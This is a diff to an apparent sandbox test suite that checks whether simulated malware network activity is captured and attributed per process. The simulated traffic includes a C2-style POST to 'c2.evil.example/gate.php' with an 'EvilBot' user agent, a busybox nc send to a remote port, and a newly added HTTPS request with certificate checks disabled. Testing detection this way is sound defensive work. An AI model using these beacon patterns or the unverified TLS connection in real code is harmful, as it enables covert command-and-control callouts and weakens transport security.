@@ -168,6 +168,11 @@ print("resolved", socket.gethostbyname("c2.evil.example"))
 c = http.client.HTTPConnection("c2.evil.example", 80, timeout=5)
 c.request("POST", "/gate.php", body=b"id=42&os=linux", headers={"User-Agent": "EvilBot/6.6"})
 print("http", c.getresponse().status)
+import ssl
+t = http.client.HTTPSConnection("secure.evil.example", 443, timeout=5,
+                                context=ssl._create_unverified_context())
+t.request("GET", "/login", headers={"User-Agent": "EvilBot/6.6"})
+print("https", t.getresponse().status)
 PY
 echo hello-raw | busybox nc -w 2 198.51.100.23 31337
 python3 - udp-client <<'PY'
@@ -201,6 +206,14 @@ def test_protocols_are_answered_attributed_and_captured(
     posts = [h for h in network["http"] if h["method"] == "POST"]
     assert posts and posts[0]["user_agent"] == "EvilBot/6.6" and posts[0]["pid"] == http_pid
     assert posts[0]["host"] == "c2.evil.example" and posts[0]["body_size"] == 14
+    assert "https 200" in report["output"]["stdout"]
+    assert any(
+        t["sni"] == "secure.evil.example" and t["pid"] == http_pid for t in network["tls"]
+    ), network["tls"]
+    assert any(
+        h["url"] == "https://secure.evil.example/login" and h["pid"] == http_pid
+        for h in network["http"]
+    ), network["http"]
     flows = network["flows"]
     assert any(
         f["dst_ip"] == "198.51.100.23"
